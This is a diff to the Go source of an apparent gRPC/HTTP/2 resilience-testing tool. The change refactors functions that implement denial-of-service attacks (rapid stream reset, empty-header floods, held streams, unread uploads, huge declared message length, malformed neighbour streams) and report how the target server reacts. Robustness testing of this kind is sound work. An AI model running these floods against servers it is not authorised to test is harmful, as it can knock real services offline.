@@ -9,6 +9,7 @@ import (
 	"golang.org/x/net/http2/hpack"
 
 	"github.com/infergate/infergate/grpcwire"
+	"github.com/infergate/infergate/internal/h2raw"
 	"github.com/infergate/infergate/proto/methods"
 )
 
@@ -51,28 +52,28 @@ func RapidReset(ctx context.Context, addr string, p RapidResetParams) (*Report, 
 	msg := grpcMessage(marshal(req))
 	err = func() error {
 		for id := uint32(1); id <= maxStreamID; id += 2 {
-			if id%64 == 1 && (actx.Err() != nil || c.over.Load()) {
+			if id%64 == 1 && (actx.Err() != nil || c.Over()) {
 				return actx.Err()
 			}
-			if err := c.headers(id, hdr, false); err != nil {
+			if err := c.Headers(id, hdr, false); err != nil {
 				return err
 			}
 			r.Streams++
-			if _, err := c.take(actx, 0, len(msg), true); err != nil {
+			if _, err := c.Take(actx, 0, len(msg), true); err != nil {
 				return err
 			}
-			if err := c.data(id, msg, true); err != nil {
+			if err := c.Data(id, msg, true); err != nil {
 				return err
 			}
-			if err := c.rst(id, http2.ErrCodeCancel); err != nil {
+			if err := c.Reset(id, http2.ErrCodeCancel); err != nil {
 				return err
 			}
 		}
 		return fmt.Errorf("stream IDs used up")
 	}()
-	c.flush()
-	r.Stopped = c.why(actx, err)
-	c.close(r)
+	c.Flush()
+	r.Stopped = c.Why(actx, err)
+	closeInto(c, r)
 	return r, nil
 }
 
@@ -105,22 +106,22 @@ func EmptyHeaders(ctx context.Context, addr string, p EmptyHeadersParams) (*Repo
 	r := &Report{Attack: "empty-headers"}
 	hdr := requestHeaders(addr, methods.ModelInfer)
 	err = openStreams(ctx, c, r, n, hdr, true)
-	if ferr := c.flush(); err == nil {
+	if ferr := c.Flush(); err == nil {
 		err = ferr
 	}
-	r.Stopped = c.why(ctx, err)
+	r.Stopped = c.Why(ctx, err)
 	if r.Stopped == "" {
 		lctx, cancel := context.WithTimeout(ctx, linger)
-		c.waitFor(lctx, func() bool {
+		c.WaitFor(lctx, func(s *h2raw.Seen) bool {
 			var resets int64
-			for _, v := range c.resets {
+			for _, v := range s.Resets {
 				resets += v
 			}
-			return c.goAway != nil || c.answered+resets >= r.Streams
+			return s.GoAway != nil || s.Answered+resets >= r.Streams
 		})
 		cancel()
 	}
-	c.close(r)
+	closeInto(c, r)
 	return r, nil
 }
 
@@ -129,13 +130,13 @@ func EmptyHeaders(ctx context.Context, addr string, p EmptyHeadersParams) (*Repo
 func openStreams(ctx context.Context, c *conn, r *Report, n int, hdr []hpack.HeaderField, end bool) error {
 	id := uint32(1)
 	for i := range n {
-		if i%64 == 0 && (ctx.Err() != nil || c.over.Load()) {
+		if i%64 == 0 && (ctx.Err() != nil || c.Over()) {
 			return ctx.Err()
 		}
 		if id > maxStreamID {
 			return fmt.Errorf("stream IDs used up")
 		}
-		if err := c.headers(id, hdr, end); err != nil {
+		if err := c.Headers(id, hdr, end); err != nil {
 			return err
 		}
 		r.Streams++
@@ -170,16 +171,16 @@ func HoldStreams(ctx context.Context, addr string, p HoldStreamsParams) (*Report
 	}
 	r := &Report{Attack: "hold-streams"}
 	err = openStreams(ctx, c, r, n, requestHeaders(addr, methods.ModelInfer), false)
-	if ferr := c.flush(); err == nil {
+	if ferr := c.Flush(); err == nil {
 		err = ferr
 	}
-	r.Stopped = c.why(ctx, err)
+	r.Stopped = c.Why(ctx, err)
 	if r.Stopped == "" {
 		hctx, cancel := context.WithTimeout(ctx, hold)
-		c.waitFor(hctx, func() bool { return c.goAway != nil })
+		c.WaitFor(hctx, func(s *h2raw.Seen) bool { return s.GoAway != nil })
 		cancel()
 	}
-	c.close(r)
+	closeInto(c, r)
 	return r, nil
 }
 
@@ -230,9 +231,9 @@ func NeverRead(ctx context.Context, addr string, p NeverReadParams) (*Report, er
 	if upload <= 0 {
 		upload = 30 * time.Second
 	}
-	c, err := dial(ctx, addr, dialOpts{
-		settings:   []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}},
-		connWindow: 1<<31 - 1 - 65535,
+	c, err := dial(ctx, addr, h2raw.Options{
+		Settings:   []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}},
+		ConnWindow: 1<<31 - 1 - 65535,
 	})
 	if err != nil {
 		return nil, err
@@ -244,8 +245,8 @@ func NeverRead(ctx context.Context, addr string, p NeverReadParams) (*Report, er
 		hdr := requestHeaders(addr, methods.ModelInfer)
 		for i := range n {
 			id := uint32(2*i + 1)
-			c.watchStream(id)
-			if err := c.headers(id, hdr, false); err != nil {
+			c.Watch(id)
+			if err := c.Headers(id, hdr, false); err != nil {
 				return err
 			}
 			r.Streams++
@@ -253,11 +254,11 @@ func NeverRead(ctx context.Context, addr string, p NeverReadParams) (*Report, er
 		for i := range n {
 			id := uint32(2*i + 1)
 			for sent := 0; sent < len(msg); {
-				k, err := c.take(uctx, id, min(chunk, len(msg)-sent), false)
+				k, err := c.Take(uctx, id, min(chunk, len(msg)-sent), false)
 				if err != nil {
 					return fmt.Errorf("uploads incomplete: %w", err)
 				}
-				if err := c.data(id, msg[sent:sent+k], false); err != nil {
+				if err := c.Data(id, msg[sent:sent+k], false); err != nil {
 					return err
 				}
 				sent += k
@@ -268,17 +269,17 @@ func NeverRead(ctx context.Context, addr string, p NeverReadParams) (*Report, er
 		// waits for it before answering a unary call (grpc-go checks
 		// that no second message follows) answers none before now.
 		for i := range n {
-			if err := c.data(uint32(2*i+1), nil, true); err != nil {
+			if err := c.Data(uint32(2*i+1), nil, true); err != nil {
 				return err
 			}
 		}
-		err := c.flush()
-		r.UploadedAfter = time.Since(c.start)
+		err := c.Flush()
+		r.UploadedAfter = time.Since(c.Started())
 		return err
 	}()
 	cancel()
-	c.stopReading()
-	r.Stopped = c.why(ctx, err)
+	c.StopReading()
+	r.Stopped = c.Why(ctx, err)
 	if err != nil && r.Stopped == "" {
 		r.Stopped = err.Error()
 	}
@@ -288,7 +289,7 @@ func NeverRead(ctx context.Context, addr string, p NeverReadParams) (*Report, er
 		case <-time.After(hold):
 		}
 	}
-	c.close(r)
+	closeInto(c, r)
 	return r, nil
 }
 
@@ -323,9 +324,9 @@ func HugeLength(ctx context.Context, addr string, p HugeLengthParams) (*Report, 
 	}
 	r := &Report{Attack: "huge-length"}
 	const id = 1
-	c.watchStream(id)
+	c.Watch(id)
 	err = func() error {
-		if err := c.headers(id, requestHeaders(addr, methods.ModelInfer), false); err != nil {
+		if err := c.Headers(id, requestHeaders(addr, methods.ModelInfer), false); err != nil {
 			return err
 		}
 		r.Streams++
@@ -333,18 +334,18 @@ func HugeLength(ctx context.Context, addr string, p HugeLengthParams) (*Report, 
 		grpcwire.PutPrefix(buf, int(length))
 		first := true
 		for {
-			if c.over.Load() {
+			if c.Over() {
 				return errClosed
 			}
-			if w := c.stream(id); w.reset {
+			if w := c.Stream(id); w.Reset {
 				return nil
 			}
-			k, err := c.take(actx, id, chunk, false)
+			k, err := c.Take(actx, id, chunk, false)
 			if err != nil {
 				return err
 			}
-			w := c.stream(id)
-			if err := c.data(id, buf[:k], false); err != nil {
+			w := c.Stream(id)
+			if err := c.Data(id, buf[:k], false); err != nil {
 				return err
 			}
 			if first {
@@ -352,23 +353,23 @@ func HugeLength(ctx context.Context, addr string, p HugeLengthParams) (*Report, 
 				first = false
 			}
 			r.Accepted += int64(k)
-			if w.ended || w.reset {
+			if w.Ended || w.Reset {
 				r.AcceptedAfterAnswer += int64(k)
 			}
 		}
 	}()
-	c.flush()
-	r.Stopped = c.why(actx, err)
+	c.Flush()
+	r.Stopped = c.Why(actx, err)
 	// A moment for the answer to a stream the server had not answered.
 	wctx, wcancel := context.WithTimeout(ctx, 500*time.Millisecond)
-	c.waitFor(wctx, func() bool { w := c.watched[id]; return w.ended || w.reset })
+	c.WaitFor(wctx, func(s *h2raw.Seen) bool { w := s.Streams[id]; return w.Ended || w.Reset })
 	wcancel()
-	w := c.stream(id)
-	r.GRPCStatus, r.GRPCMessage, r.WatchedEndAfter = w.status, w.message, w.endAt
-	if w.reset {
-		r.StreamReset = w.resetCode.String()
+	w := c.Stream(id)
+	r.GRPCStatus, r.GRPCMessage, r.WatchedEndAfter = w.Status, w.Message, w.EndAt
+	if w.Reset {
+		r.StreamReset = w.ResetCode.String()
 	}
-	c.close(r)
+	closeInto(c, r)
 	return r, nil
 }
 
@@ -408,47 +409,47 @@ func MalformedNeighbour(ctx context.Context, addr string, p MalformedNeighbourPa
 	}
 	r := &Report{Attack: "malformed-neighbour"}
 	const good, evil = 1, 3
-	c.watchStream(good)
-	c.watchStream(evil)
+	c.Watch(good)
+	c.Watch(evil)
 	msg := grpcMessage(marshal(SimpleRequest()))
 	err = func() error {
-		if err := c.headers(good, requestHeaders(addr, methods.ModelInfer), false); err != nil {
+		if err := c.Headers(good, requestHeaders(addr, methods.ModelInfer), false); err != nil {
 			return err
 		}
-		if err := c.headers(evil, bad, false); err != nil {
+		if err := c.Headers(evil, bad, false); err != nil {
 			return err
 		}
 		r.Streams += 2
-		if err := c.flush(); err != nil {
+		if err := c.Flush(); err != nil {
 			return err
 		}
 		rctx, rcancel := context.WithTimeout(tctx, time.Second)
-		c.waitFor(rctx, func() bool { return c.watched[evil].reset })
+		c.WaitFor(rctx, func(s *h2raw.Seen) bool { return s.Streams[evil].Reset })
 		rcancel()
 		for _, id := range []uint32{evil, good} {
-			if _, err := c.take(tctx, id, len(msg), true); err != nil {
+			if _, err := c.Take(tctx, id, len(msg), true); err != nil {
 				return err
 			}
-			if err := c.data(id, msg, true); err != nil {
+			if err := c.Data(id, msg, true); err != nil {
 				return err
 			}
 		}
-		if err := c.flush(); err != nil {
+		if err := c.Flush(); err != nil {
 			return err
 		}
-		c.waitFor(tctx, func() bool { w := c.watched[good]; return w.ended || w.reset })
+		c.WaitFor(tctx, func(s *h2raw.Seen) bool { w := s.Streams[good]; return w.Ended || w.Reset })
 		return nil
 	}()
-	r.Stopped = c.why(tctx, err)
-	g, e := c.stream(good), c.stream(evil)
-	r.GRPCStatus, r.GRPCMessage, r.WatchedEndAfter = g.status, g.message, g.endAt
-	if g.reset {
-		r.StreamReset = g.resetCode.String()
+	r.Stopped = c.Why(tctx, err)
+	g, e := c.Stream(good), c.Stream(evil)
+	r.GRPCStatus, r.GRPCMessage, r.WatchedEndAfter = g.Status, g.Message, g.EndAt
+	if g.Reset {
+		r.StreamReset = g.ResetCode.String()
 	}
-	r.GoodAnswered = g.gotData && g.status == "0"
-	if e.reset {
-		r.NeighbourReset = e.resetCode.String()
+	r.GoodAnswered = g.GotData && g.Status == "0"
+	if e.Reset {
+		r.NeighbourReset = e.ResetCode.String()
 	}
-	c.close(r)
+	closeInto(c, r)
 	return r, nil
 }
